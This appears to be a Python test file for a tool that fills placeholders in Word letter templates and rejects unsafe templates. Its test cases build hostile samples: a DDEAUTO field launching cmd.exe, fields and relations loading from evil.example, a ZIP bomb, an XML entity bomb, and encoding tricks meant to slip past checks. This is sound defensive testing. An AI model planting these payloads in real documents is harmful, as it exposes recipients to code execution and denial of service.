"""Tests that placeholders are filled wherever they are in the template of a letter, and that a template is refused if it contains
anything but a plain document."""

import asyncio
import io
import zipfile
from collections.abc import Callable
from datetime import UTC, date, datetime

import pytest
from docx import Document
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from monitor.cqc.letter import filled, shipped
from monitor.cqc.reader import Reader
from monitor.cqc.word_template import check
from monitor.errors import TooHeavy, Unreadable, UsageError
from monitor.letters import NOT_KNOWN, PLACEHOLDERS, SHIPPED, About, values
from monitor.own_facts import OwnFacts

TODAY = date(2026, 11, 21)
ABOUT = About(
    service="Oak & Ash <Court>",
    location_id="1-2235535718",
    report="https://www.cqc.org.uk/location/1-2235535718",
    what_changed="Good → Inadequate overall",
    rating="Inadequate",
    published=date(2026, 11, 20),
    facts=OwnFacts(location_id="1-2235535718", people_placed=7, funding_authority="York", as_of=date(2026, 9, 1)),
)
FILLING = values(ABOUT, TODAY)
TEMPLATE = shipped(SHIPPED)


def letter(template: bytes) -> tuple[bytes, str]:
    """Fills a template in the real reader process."""
    return asyncio.run(Reader().letter(template, FILLING))


def saved(document: object) -> bytes:
    out = io.BytesIO()
    document.save(out)  # type: ignore[attr-defined]
    return out.getvalue()


def test_the_default_template_uses_every_placeholder_and_says_what_is_not_known() -> None:
    assert FILLING["people placed"] == "7, as of 1 September 2026, 81 days old"
    assert FILLING["suspended since"] == "no suspension is recorded" and FILLING["why"] == NOT_KNOWN
    docx, text = letter(TEMPLATE)
    words = "\n\n".join(one.text for one in Document(io.BytesIO(docx)).paragraphs)
    assert words == text and "((" not in text
    for name in PLACEHOLDERS:
        assert f"(({name}))" in "".join(SHIPPED) and FILLING[name] in text, name


def test_a_letter_states_its_time_of_creation_and_british_english_as_its_language() -> None:
    at = datetime(2026, 11, 30, 9, 5, tzinfo=UTC)
    made = Document(io.BytesIO(filled(TEMPLATE, FILLING, now=lambda: at)[0]))
    assert (made.core_properties.created, made.core_properties.modified) == (at, at)
    assert {one.get(qn("w:val")) for one in made.styles.element.iter(qn("w:lang"))} == {"en-GB"}


def test_placeholders_are_filled_if_formatting_divides_them_and_in_tables_and_headers() -> None:
    document = Document()
    divided = document.add_paragraph("About ((ser")
    divided.add_run("vi").bold = True
    divided.add_run("ce)) and (( Contract  OFFICER )).")
    document.add_table(rows=1, cols=1).cell(0, 0).text = "((rating))"
    document.sections[0].header.paragraphs[0].text = "((today))"
    document.sections[0].footer.paragraphs[0].text = "((location id))"
    docx, text = letter(saved(document))
    made = Document(io.BytesIO(docx))
    assert made.paragraphs[0].text == "About Oak & Ash <Court> and not known."
    assert made.tables[0].cell(0, 0).text == "Inadequate"
    assert made.sections[0].header.paragraphs[0].text == "21 November 2026"
    assert made.sections[0].footer.paragraphs[0].text == "1-2235535718"
    assert text.splitlines()[0] == "About Oak & Ash <Court> and not known."


def test_the_refusal_lists_the_unknown_placeholders() -> None:
    with pytest.raises(Unreadable, match=r"these placeholders do not exist: \(\(resident\)\), \(\(sevrice\)\)$"):
        letter(shipped(["((resident)) ((service))", "((Sevrice)) ((resident))"]))


def changed(change: Callable[[zipfile.ZipFile, zipfile.ZipFile], None]) -> bytes:
    """The default template, after a change to its ZIP file."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(TEMPLATE)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        change(old, new)
    return out.getvalue()


def with_file(name: str, content: bytes) -> Callable[[zipfile.ZipFile, zipfile.ZipFile], None]:
    def change(old: zipfile.ZipFile, new: zipfile.ZipFile) -> None:
        for one in old.namelist():
            if one != name:
                new.writestr(one, old.read(one))
        new.writestr(name, content)

    return change


def replacing(name: str, old_text: bytes, new_text: bytes) -> Callable[[zipfile.ZipFile, zipfile.ZipFile], None]:
    def change(old: zipfile.ZipFile, new: zipfile.ZipFile) -> None:
        for one in old.namelist():
            content = old.read(one)
            assert one != name or old_text in content
            new.writestr(one, content.replace(old_text, new_text) if one == name else content)

    return change


def recoded(old: zipfile.ZipFile, new: zipfile.ZipFile, change: Callable[[bytes], bytes]) -> None:
    """Adds a remote picture to the document's relations, applies `change` to the relations, and, unless `change` gave their
    namespace a prefix, encodes the relations in UTF-16."""
    for one in old.namelist():
        content = old.read(one)
        if one == _RELS:
            text = change(content.replace(_END, _OUTSIDE % b"image" + _END)).decode()
            content = text.encode() if "x:" in text[:200] else text.partition("?>")[2].strip().encode("utf-16")
        new.writestr(one, content)


def prefixed(rels: bytes) -> bytes:
    """The same relations, with a prefix for the namespace."""
    inner = rels.partition(b"relationships\">")[2].partition(_END)[0]
    return _PREFIXED + inner.replace(b"<Relationship", b"<x:Relationship") + b"</x:Relationships>"


_TYPE = b"http://schemas.openxmlformats.org/x/%s"
_OUTSIDE = b'<Relationship Id="rId99" Type="' + _TYPE + b'" Target="https://evil.example/a" TargetMode="External"/>'
_RELS = "word/_rels/document.xml.rels"
_END = b"</Relationships>"
MACROS = "it contains macros or embedded files"
LOADS = "it loads something that is stored elsewhere"
_PREFIXED = b'<x:Relationships xmlns:x="http://schemas.openxmlformats.org/package/2006/relationships">'
NO_DOCUMENT = "it is not a Word document"


@pytest.mark.parametrize(
    ("template", "says"),
    [
        (b"", NO_DOCUMENT),
        (b"PK\x03\x04 but no more", NO_DOCUMENT),
        (b"%PDF-1.7", NO_DOCUMENT),
        (b"x" * 1_000_001, "it is over 1 MB"),
        (changed(with_file("word/vbaProject.bin", b"x")), MACROS),
        (changed(with_file("word/embeddings/sheet.xlsx", b"x")), MACROS),
        (changed(replacing("[Content_Types].xml", b"wordprocessingml.document.main", b"macroEnabled.main")), MACROS),
        (changed(with_file("word/media/bomb.xml", b"\0" * 30_000_000)), "it is too large when it is unpacked"),
        (changed(replacing(_RELS, _END, _OUTSIDE % b"image" + _END)), LOADS),
        (changed(replacing(_RELS, _END, _OUTSIDE.replace(b"=\"External", b"=\"&#69;xternal") % b"image" + _END)), LOADS),
        (changed(lambda old, new: recoded(old, new, lambda one: one)), LOADS),
        (changed(lambda old, new: recoded(old, new, prefixed)), LOADS),
        (changed(with_file("word/document.xml", b"<w:document")), NO_DOCUMENT),
    ],
    ids=[
        *("empty file", "damaged ZIP file", "PDF", "file over 1 MB", "file with macros", "embedded workbook"),
        *("content type of a file with macros", "ZIP bomb", "remote picture", "remote picture behind an entity"),
        *("remote picture in UTF-16", "remote picture with a namespace prefix", "broken XML"),
    ],
)
def test_a_template_that_is_not_a_plain_word_document_is_refused(template: bytes, says: str) -> None:
    with pytest.raises(Unreadable, match=says):
        letter(template)


def test_the_link_from_a_template_to_its_own_word_template_is_removed() -> None:
    template = changed(replacing(_RELS, _END, _OUTSIDE % b"attachedTemplate" + _END))
    with zipfile.ZipFile(io.BytesIO(letter(template)[0])) as made:
        assert not [one for one in made.namelist() if b"evil.example" in made.read(one)]


def field(*said: str) -> bytes:
    """A template with a field whose instruction is divided into several parts."""
    document = Document()
    run = document.add_paragraph("((service))").add_run()._r
    for one in ("begin", *said, "end"):
        is_mark = one in ("begin", "end")
        element = OxmlElement("w:fldChar" if is_mark else "w:instrText")
        element.set(qn("w:fldCharType" if is_mark else "xml:space"), one if is_mark else "preserve")
        element.text = None if is_mark else one
        run.append(element)
    return saved(document)


def simple(said: str) -> bytes:
    """A template with a field in its short form, in a header."""
    document = Document()
    element = OxmlElement("w:fldSimple")
    element.set(qn("w:instr"), said)
    document.sections[0].header.paragraphs[0]._p.append(element)
    return saved(document)


@pytest.mark.parametrize(
    ("template", "word"),
    [
        pytest.param(field(' DDEAUTO c:\\cmd.exe "/k calc" '), "DDEAUTO", id="a field that runs a program"),
        pytest.param(field(" d", "De ", "excel"), "DDE", id="a field whose name is divided and in small letters"),
        pytest.param(field(" ", "begin", "QUOTE 1", "end", "DDE excel"), "DDE", id="a field with another field before its name"),
        pytest.param(field(' INCLUDETEXT "https://evil.example/a.docx"'), "INCLUDETEXT", id="a field for a text"),
        pytest.param(simple(' INCLUDEPICTURE "https://evil.example/a.png" \\d'), "INCLUDEPICTURE", id="a field for a picture"),
        pytest.param(field(' PAGE "DDE" '), None, id="a harmless field, which is accepted"),
    ],
)
def test_a_field_that_loads_something_is_refused(template: bytes, word: str | None) -> None:
    if word is None:
        assert letter(template)[1]
        check(template)
        return
    with pytest.raises(Unreadable, match=f"it has a field {word}, which loads"):
        letter(template)
    with pytest.raises(UsageError, match=f"it has a field {word}, which loads"):
        check(template)


def test_a_template_with_a_hyperlink_is_accepted() -> None:
    assert letter(changed(replacing(_RELS, _END, _OUTSIDE % b"hyperlink" + _END)))[1]


def test_an_xml_bomb_is_stopped() -> None:
    """Either the parser refuses the bomb, or the limits of the process end it. In both cases the program continues."""
    entities = b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10 if n else b"lol") for n in range(12))
    bomb = b"<?xml version='1.0'?><!DOCTYPE w [" + entities + b"]><w:document xmlns:w='x'>&a11;</w:document>"
    with pytest.raises((Unreadable, TooHeavy)):
        letter(changed(with_file("word/document.xml", bomb)))
    assert letter(TEMPLATE)[1]
